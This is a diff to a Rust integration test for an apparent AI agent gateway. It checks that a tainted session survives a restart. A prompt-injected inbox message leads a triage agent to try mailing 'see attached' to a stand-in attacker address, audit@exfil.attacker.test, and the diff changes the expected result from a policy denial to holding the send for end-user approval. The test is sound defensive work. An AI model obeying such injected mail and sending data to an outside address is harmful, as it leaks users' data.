@@ -185,7 +185,7 @@ async fn taint_and_request_rate_survive_a_restart() {
     assert!(text_of(&inbox).contains("audit@exfil.attacker.test"));
     raw_call(&triage, "jit_next_phase", json!({"task": task, "phase": "reply"})).await.unwrap();
     let send = |to: &str| json!({"task": task, "tool": "workspace__send_message", "arguments": {"to": to, "subject": "Audit", "body": "see attached"}, "purpose": "comply"});
-    assert_eq!(refusal_code(&request_with(&triage, send("audit@exfil.attacker.test")).await.unwrap_err()).as_deref(), Some("policy_denied"));
+    assert_held_for_end_user(&grant(&triage, send("audit@exfil.attacker.test")).await, "platform-oncall");
 
     // The burst agent makes three requests: its limit.
     let agent = gw.connect_modern(&dep.mint("burst")).await;
@@ -200,9 +200,8 @@ async fn taint_and_request_rate_survive_a_restart() {
     let gw = Gateway::start(&dep);
     gw.wait_server("workspace", "ready").await;
     let triage = gw.connect_modern(&token).await;
-    let refused = request_with(&triage, send("audit@exfil.attacker.test")).await.unwrap_err();
-    assert_eq!(refusal_code(&refused).as_deref(), Some("policy_denied"), "{}", text_of(&refused));
-    assert!(text_of(&refused).contains("workspace__read_inbox"), "the source call is still named: {}", text_of(&refused));
+    // Still tainted after the restart: held for the end user, the same pending approval.
+    assert_held_for_end_user(&grant(&triage, send("audit@exfil.attacker.test")).await, "platform-oncall");
     // Replying to the sender still works.
     let reply = request_with(&triage, send("alice@example.org")).await.unwrap();
     let sent = call_with_token(&triage, "workspace__send_message", json!({"to": "alice@example.org", "subject": "Audit", "body": "see attached"}), &reply).await.unwrap();
